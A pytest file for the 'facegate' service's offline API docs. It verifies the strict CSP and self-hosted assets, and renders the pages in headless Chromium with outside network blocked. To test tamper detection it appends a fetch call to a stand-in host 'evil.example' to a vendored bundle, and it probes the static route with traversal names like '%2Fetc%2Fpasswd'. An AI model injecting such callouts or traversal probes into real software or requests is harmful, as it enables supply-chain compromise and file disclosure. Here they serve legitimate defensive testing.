"""Offline /docs and /redoc: facegate's own assets, a strict CSP, rendered in headless Chromium.

The browser test needs Debian's chromium (scripts/system-deps.sh installs it) and the
`playwright` package (dev extra); the outside network is made unreachable for the browser.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from service_server import Server, running_server

from facegate.service import api_docs
from facegate.service.app import create_app
from facegate.settings import load_settings

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_chromium = pytest.mark.skipif(
    CHROMIUM is None, reason="chromium not installed (scripts/system-deps.sh installs it)"
)
NO_OUTSIDE = "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    """Return a client of the app over a fresh gallery."""
    db = tmp_path_factory.mktemp("docs") / "gallery.db"
    with TestClient(create_app(load_settings(environ={}), db)) as test_client:
        yield test_client


@pytest.mark.parametrize(
    ("path", "script"), [("/docs", "swagger-init.js"), ("/redoc", "redoc-init.js")]
)
def test_pages_load_only_own_files_under_a_strict_csp(
    client: TestClient, path: str, script: str
) -> None:
    page = client.get(path)
    assert page.status_code == 200
    csp = page.headers["content-security-policy"]
    assert "script-src 'self';" in csp and "default-src 'none'" in csp
    assert "http" not in csp  # no other origin anywhere in the policy
    assert "http://" not in page.text and "https://" not in page.text
    assert "<script>" not in page.text  # no inline script: the start-up code is a file
    assert f'src="/static/docs/{script}"' in page.text
    assert 'data-openapi="/openapi.json"' in page.text


def test_assets_are_served_with_types_and_unknown_names_are_404(client: TestClient) -> None:
    bundle = client.get("/static/docs/swagger-ui-bundle.js")
    assert bundle.status_code == 200
    assert bundle.headers["content-type"].startswith("text/javascript")
    assert client.get("/static/docs/swagger-ui.css").headers["content-type"].startswith("text/css")
    for name in ("nope.js", "..%2F..%2Fsettings.py", "%2Fetc%2Fpasswd"):
        missing = client.get(f"/static/docs/{name}")
        assert missing.status_code == 404
        assert missing.json()["error"] == "not_found"
    assert client.get("/static/docs/../app.py").status_code == 404
    assert "/static/docs/{name}" not in client.get("/openapi.json").json()["paths"]


def test_a_changed_vendored_file_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copy = tmp_path / "static"
    shutil.copytree(api_docs._vendor_dir(), copy)
    assert api_docs.load_assets().keys() >= set(api_docs.VENDOR_SHA256)
    with (copy / "redoc.standalone.js").open("ab") as out:
        out.write(b"\n;fetch('https://evil.example/x')")
    monkeypatch.setattr(api_docs, "_vendor_dir", lambda: copy)
    with pytest.raises(api_docs.DocsAssetError, match=r"redoc\.standalone\.js does not match"):
        api_docs.load_assets()
    (copy / "swagger-ui.css").unlink()
    with pytest.raises(api_docs.DocsAssetError, match="missing"):
        api_docs.load_assets()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Yield a real `facegate serve` on a free local port."""
    with running_server(tmp_path_factory.mktemp("docs-server")) as running:
        yield running


# ReDoc's side menu always draws Redocly's logo from its CDN; the CSP stops it (the menu then
# drops the image), so the browser never sends that request.
REDOC_LOGO = "https://cdn.redoc.ly/redoc/logo-mini.svg"


@needs_chromium
@pytest.mark.parametrize(
    ("path", "operation", "blocked"),
    [
        ("/docs", ".opblock-summary-path", []),
        ("/redoc", "[data-section-id^='operation/']", [REDOC_LOGO]),
    ],
)
def test_docs_render_offline_in_chromium(
    server: Server, path: str, operation: str, blocked: list[str]
) -> None:
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright (dev extra) missing")
    requests: list[str] = []
    failed: dict[str, str | None] = {}
    errors: list[str] = []
    with sync_api.sync_playwright() as play:
        browser = play.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", NO_OUTSIDE]
        )
        try:
            page = browser.new_page()
            page.on("request", lambda request: requests.append(request.url))
            page.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
            page.on("pageerror", lambda error: errors.append(str(error)))
            page.on(
                "console",
                lambda message: errors.append(message.text) if message.type == "error" else None,
            )
            page.goto(server.url + path, wait_until="networkidle")
            page.wait_for_selector(operation, timeout=30_000)
            text = page.inner_text("body")
        finally:
            browser.close()
    for operation_path in ("/v1/identify", "/v1/people", "/v1/doors/{name}"):
        assert operation_path in text, f"{path} did not render {operation_path}"
    csp = [line for line in errors if "violates the following Content Security Policy" in line]
    assert [line for line in errors if line not in csp] == []  # no script error
    assert [line.split("'")[1] for line in csp] == blocked
    own = (server.url + "/", f"blob:{server.url}/")
    outside = {url: failed.get(url) for url in requests if not url.startswith(own)}
    # What the page tried beyond 127.0.0.1 was stopped by its CSP before any lookup or connection.
    assert outside == dict.fromkeys(blocked, "csp")
    assert server.url + "/openapi.json" in requests
